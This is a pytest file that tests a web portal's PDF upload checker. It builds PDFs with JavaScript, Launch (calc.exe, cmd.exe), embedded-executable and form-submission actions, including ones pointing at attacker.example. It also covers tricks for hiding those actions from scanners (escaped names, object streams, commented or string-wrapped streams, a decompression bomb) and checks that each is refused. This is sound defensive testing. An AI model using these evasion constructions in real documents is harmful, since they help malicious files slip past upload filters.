"""PDF content checks (portal/core/uploads/pdf.py)."""

import zlib

import pytest
from django.core.exceptions import ValidationError

from portal.core.uploads import PDF, check_document
from tests.portal import documents

ACTIVE = "This PDF contains active content"
JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    "content",
    [
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", documents.PAGES,
                      JS_ACTION),
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (x) >> >>",
                      documents.PAGES),
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 3 0 R >> >>", documents.PAGES,
                      b"<< /S /GoTo /D [0 /Fit] >>"),
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
                      documents.PAGES, b"<< /Names [(a.exe) 4 0 R] >>"),
        documents.pdf(documents.CATALOGUE, documents.PAGES,
                      b"<< /Type /Annot /Subtype /RichMedia >>"),
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 3 0 R >> >>",
                      documents.PAGES, documents.stream(b"<xdp:xdp/>")),
        # Names written with #xx escapes: /J#61vaScript is /JavaScript.
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", documents.PAGES,
                      b"<< /S /J#61vaScript /#4A#53 (app.alert(1)) >>"),
        # The action compressed inside an object stream (PDF 1.5).
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>", documents.PAGES,
                      documents.object_stream(JS_ACTION)),
        # ... with an escaped name in the stream's dictionary too.
        documents.pdf(documents.CATALOGUE, documents.PAGES,
                      documents.object_stream(b"<< /S /Launch /F (x) >>").replace(
                          b"/ObjStm", b"/Obj#53tm")),
        # ... or in a first object whose header is broken (a repairing reader may use it).
        documents.pdf(documents.object_stream(JS_ACTION), documents.PAGES).replace(
            b"1 0 obj", b"1 0 xbj"),
        # An object hidden in a stream's data, which a cross-reference table can point to.
        documents.pdf(documents.CATALOGUE, documents.PAGES, documents.stream(
            b"BT ET\n9 0 obj " + JS_ACTION + b" endobj\n", compress=False)),
    ],
)  # fmt: skip
def test_pdfs_with_active_content_are_refused(content):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content))
    assert ACTIVE in error.value.messages[0]


@pytest.mark.parametrize(
    "content, message",
    [
        # Object streams with other filters or predictors cannot be read: refused.
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            JS_ACTION.hex().encode(), dictionary=b"/Filter /ASCIIHexDecode", compress=False)),
         "built in a way we cannot check"),
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            b"<< >>", dictionary=b"/DecodeParms << /Predictor 12 /Columns 4 >>")),
         "built in a way we cannot check"),
        # Compressed twice, or through a filter given indirectly: names it could hide.
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            zlib.compress(JS_ACTION), dictionary=b"/Filter [/FlateDecode /FlateDecode]",
            compress=False)), "built in a way we cannot check"),
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            zlib.compress(JS_ACTION), dictionary=b"/Filter 9 0 R", compress=False)),
         "built in a way we cannot check"),
        (documents.pdf(documents.CATALOGUE, documents.PAGES, b"<< /Filter /Standard /V 2 >>",
                       trailer=b"/Encrypt 3 0 R "), "encrypted or protected by a password"),
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            b"<< >>").replace(b"x\x9c", b"x\x9cgarbage")), "seems damaged"),
    ],
)  # fmt: skip
def test_pdfs_that_cannot_be_checked_are_refused(content, message):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content))
    assert message in error.value.messages[0]


def test_an_object_stream_that_inflates_without_bound_is_refused(monkeypatch):
    from portal.core.uploads import pdf

    monkeypatch.setattr(pdf, "PDF_MAX_INFLATED", 10_000)
    bomb = documents.object_stream(b"<< >> " + b" " * 50_000)
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(documents.pdf(documents.CATALOGUE, documents.PAGES, bomb)))
    assert "expands to far more than its size" in error.value.messages[0]


def test_ordinary_pdfs_pass_whatever_their_streams_hold():
    # Page content and image data are not read as names: random bytes there that happen to
    # spell /JS are not a script. An opening view (/OpenAction to a page) is no action.
    noise = bytes(range(256)) * 40 + b"/JS /AA /Launch " + bytes(range(256))
    content = documents.pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [4 0 R /Fit] >>",
        documents.PAGES,
        documents.stream(noise, b"/Type /XObject /Subtype /Image"),
        documents.stream(b"BT /F1 12 Tf (Amina Uwase, nurse) Tj ET", compress=True),
        documents.object_stream(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
        documents.stream(noise, b"/Subtype /Image", compress=False),
    )
    assert check_document(documents.upload(content)) == PDF


# What an outside review found (issue 12): ways round the scan, closed.

JS_OPEN = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


@pytest.mark.parametrize(
    "content",
    [
        # The reviewer's file: a script between a commented-out `stream` and `endstream`.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE,
                      b"%stream\n<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>\n%endstream"),
        # `stream` inside a string, `endstream` inside a later object's string.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE,
                      b"<< /T (x >>\nstream\n) /S /JavaScript /JS (app.alert(1)) >>",
                      b"<< /T (endstream) >>"),
        # `stream` that follows no dictionary is no stream.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE,
                      b"[ ] stream\n<< /S /JavaScript /JS (app.alert(1)) >>\nendstream"),
        # A stream's data ends at the first `endstream`: what follows is read.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE, documents.stream(
            b"q Q endstream endobj 9 0 obj << /S /Launch /F (cmd.exe) >>", compress=False)),
        # A comment cannot open a string that would hide what follows from the lexer.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE,
                      b"% (\n<< /S /JavaScript /JS (app.alert(1)) >>\n% )"),
    ],
)  # fmt: skip
def test_pdf_scripts_hidden_from_the_scanner_are_refused(content):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content))
    assert ACTIVE in error.value.messages[0]


@pytest.mark.parametrize(
    "action",
    [b"GoToR /F (http://attacker.example/x.pdf) /D [0 /Fit]", b"Thread /D 5 0 R",
     b"Rendition /R 5 0 R", b"Launch /F (calc.exe)", b"ImportData /F (x.fdf)",
     b"SubmitForm /F (http://attacker.example/)", b"GoToE /T << /R /C /N (x) >>"],
)  # fmt: skip
def test_pdf_actions_that_open_other_files_or_media_are_refused(action):
    content = documents.pdf(JS_OPEN, documents.PAGES, PAGE, b"<< /S /%s >>" % action)
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content))
    assert ACTIVE in error.value.messages[0]


def test_pdfs_with_comments_strings_and_crlf_streams_still_pass():
    noise = bytes(range(256)) * 8 + b"/JS /Launch (unbalanced % stream\n"
    content = documents.pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >> % opening view (\n"
        b">>" + b"%" * 100_000 + b" no stream here",  # scanned in linear time
        documents.PAGES,
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [5 0 R] >>",
        b"<< /Length %d /Subtype /Image >>\r\nstream\r\n%s\r\nendstream" % (len(noise), noise),
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/?a=1%20b) >>"
        b" /Contents (100% sure \\) that << >> stream\n endstream are text) /T <FEFF00>>>",
        documents.stream(b"BT (Amina, nurse) Tj ET", b"/Type /XObject"),
    )
    assert check_document(documents.upload(content)) == PDF
